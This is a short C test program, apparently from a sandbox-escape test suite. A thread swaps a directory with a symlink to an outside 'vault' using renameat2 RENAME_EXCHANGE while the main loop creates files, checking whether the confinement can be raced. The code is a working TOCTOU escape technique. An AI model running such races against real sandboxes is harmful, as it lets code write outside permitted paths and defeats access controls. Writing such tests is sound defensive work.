// Exchanges a directory with a link out of the scope while a file is created in it.

#include "attack.h"

static const char *directory, *link_path;
static atomic_bool stop;

static void *exchanging(void *unused) {
  while (!stop) syscall(SYS_renameat2, AT_FDCWD, directory, AT_FDCWD, link_path, 2 /* RENAME_EXCHANGE */);
  return unused;
}

int main(void) {
  directory = WORK("directory");
  link_path = WORK("link");
  if (mkdir(directory, 0700) || symlink(vault(), link_path)) refused("mkdir");
  pthread_t thread;
  if (pthread_create(&thread, 0, exchanging, 0)) broken("pthread_create");
  const char *path = joined("%s/new", directory), *outside = joined("%s/new", vault());
  struct stat made;
  for (int index = 0; index < TRIES; index++) {
    int fd = open(path, O_WRONLY | O_CREAT, 0600);
    if (fd >= 0) close(fd);
    if (stat(outside, &made) == 0) won("a file was created outside the scope, after %d tries", index + 1);
    unlink(path);
  }
  stop = true;
  blocked("0 of %d files were created outside the scope", TRIES);
}
